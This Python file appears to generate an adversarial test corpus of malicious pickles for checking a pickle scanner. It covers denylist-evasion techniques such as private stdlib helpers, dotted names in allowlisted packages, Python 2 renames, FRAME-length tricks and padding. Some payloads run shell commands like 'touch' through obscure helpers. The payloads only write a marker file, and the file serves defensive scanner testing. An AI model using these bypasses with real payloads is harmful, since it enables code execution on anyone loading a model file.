"""Malicious pickles built the way an attacker would who has read docs/rules.md and the public
scanner bypass advisories (picklescan, ModelScan, fickling, modelaudit; JFrog, Sonatype,
ReversingLabs and Trail of Bits write-ups, 2024-2026): callables that no denylist names. Every
technique class of the pickle scanner's reachability judgement has at least one file here:

- private helpers and pure-Python twins of the standard library (uuid, _osx_support, _pyio);
- dotted names walked inside allowlisted packages (sklearn.utils + `_joblib.dump`);
- methods of allowlisted classes that write files (numpy.ndarray.tofile, pathlib.Path.touch);
- known-safe helpers that call their argument (torch _rebuild_from_type_v2);
- Python 2 names the unpickler renames (__builtin__.reduce → functools.reduce);
- resolvers that build a callable from a string (torch._utils._import_dotted_name);
- file writers no list names (gzip.GzipFile, wave.open, zipapp, scipy.io.savemat …);
- FRAME lengths that CPython's two unpicklers read differently; padding before the payload;
- callables stored but not called (a transformer's `func`, a callback kept in a dict).

Each entry says how its effect is checked against the real loader (check_adversarial.py, in a
throwaway process and directory): "file" — loading creates a file named secmlops-marker* in the
working directory (the payload never touches anything else); "resolves" — the globals it
imports resolve in this interpreter (network or display side effects are not triggered).
"""
import pickle
import struct

MARKER = "secmlops-marker"


# ---- opcode assembly ----
class G:
    """A global pushed by STACK_GLOBAL (or GLOBAL when protocol < 4)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """callable(*args) through REDUCE."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class Raw:
    """Opcodes pushing one value, written verbatim."""

    def __init__(self, data):
        self.data = data


def _str(s):
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def _str_p2(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def emit(v, proto):
    s = _str if proto >= 4 else _str_p2
    if isinstance(v, G):
        if proto >= 4:
            return s(v.module) + s(v.name) + b"\x93"
        return b"c" + v.module.encode() + b"\n" + v.name.encode() + b"\n"
    if isinstance(v, Call):
        return emit(v.fn, proto) + b"(" + b"".join(emit(a, proto) for a in v.args) + b"tR"
    if isinstance(v, Raw):
        return v.data
    if v is None:
        return b"N"
    if v is True:
        return b"\x88"
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        return b"J" + struct.pack("<i", v)
    if isinstance(v, str):
        return s(v)
    if isinstance(v, bytes):
        return b"C" + bytes([len(v)]) + v if len(v) < 256 else b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        return b"(" + b"".join(emit(a, proto) for a in v) + b"t"
    if isinstance(v, list):
        return b"(" + b"".join(emit(a, proto) for a in v) + b"l"
    if isinstance(v, dict):
        return b"(" + b"".join(emit(k, proto) + emit(x, proto) for k, x in v.items()) + b"d"
    raise TypeError(v)


def program(v, proto=4):
    return b"\x80" + bytes([proto]) + emit(v, proto) + b"."


def framed(body, declared):
    """A protocol-4 pickle whose single FRAME declares `declared` bytes for `body`."""
    return b"\x80\x04\x95" + struct.pack("<Q", declared) + body + b"."


def ndarray_opcodes():
    """Opcodes that push a small numpy array (as numpy pickles it), memo-free."""
    import numpy as np
    import pickletools
    data = pickle.dumps(np.arange(3, dtype=np.int8), protocol=2)
    return Raw(pickletools.optimize(data)[2:-1])  # no PROTO, no STOP, no unused PUTs


def _bytes_op(b):
    return b"B" + struct.pack("<I", len(b)) + b


class _WritesMarker:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        import gzip
        return gzip.GzipFile, (self.path, "wb")


def legacy_checkpoint(path):
    """torch.save in the legacy format of an object whose unpickling creates `path`."""
    import io
    import torch
    buf = io.BytesIO()
    torch.save({"model": _WritesMarker(path)}, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


# ---- the corpus: (file name, bytes, check, loader) ----
def corpus():
    m = MARKER
    items = []

    def add(name, data, check="file", loader="pickle.loads"):
        items.append((name, data, check, loader))

    # Private helpers and pure-Python twins of the standard library.
    add("adv_uuid_get_command_stdout.pkl", program(Call(G("uuid", "_get_command_stdout"), "touch", m)))
    add("adv_osx_support_read_output.pkl", program(Call(G("_osx_support", "_read_output"), f"touch {m}")))
    add("adv_pyio_open.pkl", program(Call(G("_pyio", "open"), m, "w")))
    add("adv_pyio_fileio_p2.pkl", program(Call(G("_pyio", "FileIO"), m, "w"), proto=2))
    add("adv_platform_syscmd_file.pkl", program(Call(G("platform", "_syscmd_file"), "/bin/sh")), "resolves")
    add("adv_imaplib_stream.pkl", program(Call(G("imaplib", "IMAP4_stream"), f"touch {m}")))
    # Dotted names walked inside allowlisted packages.
    add("adv_dotted_sklearn_joblib_dump.pkl", program(Call(G("sklearn.utils", "_joblib.dump"), {"a": 1}, m)))
    add("adv_sklearn_private_joblib_dump.pkl", program(Call(G("sklearn.utils._joblib", "dump"), {"a": 1}, m)))
    add("adv_dotted_sklearn_platform.pkl",
        program(Call(G("sklearn.utils._show_versions", "platform._syscmd_file"), "/bin/sh")), "resolves")
    add("adv_dotted_torch_nn_save.pkl", program(Call(G("torch.nn.modules.module", "torch.save"), {}, m)))
    # Methods of allowlisted classes that write files.
    arr = ndarray_opcodes()
    add("adv_ndarray_tofile.pkl", program(Call(G("numpy", "ndarray.tofile"), arr, m)))
    add("adv_ndarray_dump.pkl", program(Call(G("numpy", "ndarray.dump"), arr, m)))
    add("adv_pathlib_touch.pkl",
        program(Call(G("pathlib", "Path.touch"), Call(G("pathlib", "Path"), m))))
    add("adv_torch_storage_from_file.pkl",
        program(Call(G("torch.storage", "UntypedStorage.from_file"), m, True, 16)))
    add("adv_torch_from_file.pkl", program(Call(G("torch", "from_file"), m, True, 16)))
    # A known-safe helper that calls its first argument.
    add("adv_rebuild_from_type_v2.pkl",
        program(Call(G("torch._tensor", "_rebuild_from_type_v2"), G("torch", "save"), G("torch", "Tensor"),
                     ({}, m), None), proto=2))
    add("adv_reconstructor_gzip.pkl",
        program(Call(G("copyreg", "_reconstructor"), G("gzip", "GzipFile"), G("gzip", "GzipFile"), m), proto=2),
        "resolves")
    # Python 2 names that the unpickler renames at protocols 0-2.
    add("adv_py2_builtin_reduce.pkl",
        program(Call(G("__builtin__", "reduce"), G("_pyio", "open"), [m, "w"]), proto=2))
    add("adv_py2_itertools_imap.pkl",
        program(Call(G("__builtin__", "list"), Call(G("itertools", "imap"), G("gzip", "GzipFile"), [m], ["wb"])),
                proto=2))
    # Resolvers that build a callable from a string.
    add("adv_import_dotted_name.pkl",
        program(Call(Call(G("torch._utils", "_import_dotted_name"), "_pyio.open"), m, "w")))
    add("adv_str_format_resolver.pkl",
        program(Call(G("builtins", "str.format"), "{0.__init__.__globals__}", Call(G("argparse", "Namespace")))),
        "resolves")
    # Writers and loaders no list names.
    add("adv_gzip_file.pkl", program(Call(G("gzip", "GzipFile"), m, "wb")))
    add("adv_bz2_file.pkl", program(Call(G("bz2", "BZ2File"), m, "w")))
    add("adv_lzma_file.pkl", program(Call(G("lzma", "LZMAFile"), m, "w")))
    add("adv_wave_open.pkl", program(Call(G("wave", "open"), m, "wb")))
    add("adv_zipapp_create.pkl", program(Call(G("zipapp", "create_archive"), ".", m, None, "x:y")))
    add("adv_numpy_savez.pkl", program(Call(G("numpy.lib.npyio", "savez"), m)))
    add("adv_numpy_memmap.pkl", program(Call(G("numpy.core.memmap", "memmap"), m, "uint8", "w+", 0, (4,))))
    add("adv_numpy_open_memmap.pkl",
        program(Call(G("numpy.lib.format", "open_memmap"), m + ".npy", "w+", "uint8", (4,))))
    add("adv_joblib_dump.pkl", program(Call(G("joblib", "dump"), {"a": 1}, m)))
    add("adv_scipy_savemat.pkl", program(Call(G("scipy.io", "savemat"), m, {})))
    add("adv_torch_save.pkl", program(Call(G("torch", "save"), {}, m)))
    add("adv_model_zoo_load_url.pkl",
        program(Call(G("torch.utils.model_zoo", "load_url"), "http://127.0.0.1:9/x.pt")), "resolves")
    add("adv_unittest_main.pkl", program(Call(G("unittest", "main"), None)), "resolves")
    # A loader nested in a loader: torch.load of bytes inside the pickle (a legacy checkpoint
    # whose object writes the marker).
    add("adv_nested_torch_load_from_bytes.pkl",
        program(Call(G("torch.storage", "_load_from_bytes"), Raw(_bytes_op(legacy_checkpoint(m)))), proto=2))
    # FRAME lengths read differently by the C and the pure-Python unpickler.
    payload = emit(Call(G("gzip", "GzipFile"), m, "wb"), 4)
    add("adv_frame_short.pkl", framed(payload, 3))  # C runs it; pickle._loads refuses
    add("adv_frame_long.pkl", framed(payload, len(payload) + 4096), "file", "pickle._loads")  # the reverse
    # Protocol 0 padded with a long quoted string: the first 4 KiB show no complete opcode.
    add("adv_p0_long_string_prefix.pkl",
        b"S'" + b"a" * 10000 + b"'\n0c_pyio\nopen\n(S'" + m.encode() + b"'\nS'w'\ntR.")
    # Padding before the payload: a long string, popped.
    pad = b"X" + struct.pack("<I", 200_000) + b"a" * 200_000 + b"0"
    add("adv_padded.pkl", b"\x80\x04" + pad + emit(Call(G("_pyio", "open"), m, "w"), 4) + b".")
    # Callables stored but not called: a transformer's `func` and a callback in a dict, which
    # whoever uses the loaded object calls (tokenize.open opens the path it is given).
    ft = G("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    add("adv_stored_function_transformer_func.pkl",
        b"\x80\x04" + emit(Call(ft), 4) + emit({"func": G("tokenize", "open"), "validate": False}, 4) + b"b.",
        "resolves")
    add("adv_stored_callback_in_dict.pkl", program({"on_load": G("tokenize", "open"), "path": m}), "resolves")
    return items


def write_all(out, write):
    for name, data, _, _ in corpus():
        write(out, name, data)
